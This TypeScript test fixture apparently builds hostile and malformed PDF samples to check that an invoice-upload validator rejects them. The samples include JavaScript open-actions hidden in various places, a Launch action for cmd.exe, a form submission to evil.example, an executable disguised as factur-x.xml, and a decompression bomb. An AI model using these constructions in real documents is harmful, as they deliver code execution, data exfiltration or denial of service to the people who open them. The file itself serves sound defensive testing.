import { PDFDocument, PDFHexString, PDFName } from "@cantoo/pdf-lib";
import { deflateSync } from "node:zlib";
import { madeByPdfkit } from "./good-pdfs.ts";
import { onePage, rawPdf, rawStream, withPiece } from "./raw-pdf.ts";
import { named, type Sample } from "./sample.ts";

const script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
const zip = Buffer.from("504b0304140000000800", "hex");
const program = Buffer.concat([Buffer.from("4d5a90000300000004000000ffff0000", "hex"), Buffer.alloc(500)]);

/** PDFs that are more than paper, or no paper at all. */
export const badPdfs: readonly Sample[] = [
  pdf("a password to open it, 40 bits", () => madeByPdfkit({ pdfVersion: "1.3", userPassword: "secret" }), "FILE_ENCRYPTED"),
  pdf("a password to open it, AES-128", () => madeByPdfkit({ pdfVersion: "1.6", userPassword: "secret" }), "FILE_ENCRYPTED"),
  pdf("a password to open it, AES-256", () => madeByPdfkit({ pdfVersion: "1.7ext3", userPassword: "secret" }), "FILE_ENCRYPTED"),
  pdf("a script at opening", () => onePage({ catalog: `/OpenAction ${script}` })),
  pdf("a script in the tree of names", () => onePage({ catalog: `/Names<</JavaScript<</Names[(a) ${script}]>>>>` })),
  pdf("a script when the page opens", () => onePage({ page: `/AA<</O ${script}>>` })),
  pdf("a script on a button", () => onePage({ page: `/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A ${script}>>]` })),
  pdf("a script with its name written in hexadecimal", () => onePage({ catalog: "/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>" })),
  pdf("a script in an object no page leads to", () => onePage({ others: [script] })),
  pdf("a script in a compressed stream of objects", hiddenScript),
  pdf("a script in an object that was replaced", () => Buffer.concat([onePage({ others: [script] }), update("4 0 obj\nnull\nendobj\n")])),
  pdf("an action that starts a program", () => onePage({ catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>" })),
  pdf("an action that sends a form", () => onePage({ catalog: "/OpenAction<</S/SubmitForm/F(https://evil.example)>>" })),
  pdf("an action that opens a piece inside", () => onePage({ catalog: "/OpenAction<</S/GoToE/T<</R/C/N(a)>>>>" })),
  pdf("a form of its own kind (XFA)", () =>
    onePage({ catalog: "/AcroForm<</Fields[]/XFA 4 0 R>>", others: [rawStream("", Buffer.from("<xdp/>"))] }),
  ),
  pdf("a film", () => onePage({ page: "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]" })),
  pdf("a program inside", () => withPiece(program, "facture.exe")),
  pdf("a program inside, called .xml", () => withPiece(program, "factur-x.xml")),
  pdf("an archive inside", () => withPiece(zip, "pieces.zip")),
  pdf("a page of the web inside", () => withPiece(Buffer.from("<html><script>alert(1)</script></html>"), "index.xml")),
  pdf("another PDF inside, with a script", () => withPiece(onePage({ catalog: `/OpenAction ${script}` }), "annexe.pdf")),
  pdf("a PDF in a PDF in a PDF in a PDF", () => withPiece(withPiece(withPiece(onePage(), "a.pdf"), "b.pdf"), "c.pdf")),
  pdf("arrays in arrays, 5 000 deep", () => onePage({ others: ["[".repeat(5_000) + "]".repeat(5_000)] }), "FILE_BROKEN"),
  pdf("a bomb: some kB that swell to 1 GB", bomb, "FILE_TOO_COMPLEX"),
  pdf("its first half only", async () => (await madeByPdfkit({})).subarray(0, 400), "FILE_BROKEN"),
  pdf("its first line only", () => Buffer.from("%PDF-1.7\n"), "FILE_BROKEN"),
  pdf(
    "noise after its first line",
    () => Buffer.concat([Buffer.from("%PDF-1.7\n"), deflateSync(Buffer.from("x".repeat(9_999)))]),
    "FILE_BROKEN",
  ),
  pdf("no page", () => rawPdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"]), "FILE_BROKEN"),
  pdf("no catalog", () => rawPdf(["<</Type/Pages/Kids[]/Count 1>>"], { root: 7 }), "FILE_BROKEN"),
  pdf("an archive after its end", () => Buffer.concat([onePage(), zip, Buffer.alloc(4_000)]), "FILE_BROKEN"),
];

function pdf(what: string, content: () => Uint8Array | Promise<Uint8Array>, why = "FILE_ACTIVE"): Sample {
  return { what: `a PDF with ${what}`, file: async () => named("facture.pdf", await content()), why };
}

async function hiddenScript(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  const action = document.context.obj({ S: "JavaScript", JS: PDFHexString.fromText("app.alert(1)") });
  document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
  return document.save({ useObjectStreams: true });
}

const update = (objects: string) => Buffer.from(`${objects}trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n`);

/** A stream of objects compressed twice: what a reader must inflate before it knows what is inside. */
function bomb(): Buffer {
  const filters = "/Filter[/FlateDecode/FlateDecode]";
  const once = deflateSync(Buffer.alloc(1_000_000_000), { level: 9 });
  return onePage({ others: [rawStream(`/Type/ObjStm/N 1/First 4${filters}`, deflateSync(once, { level: 9 }))] });
}
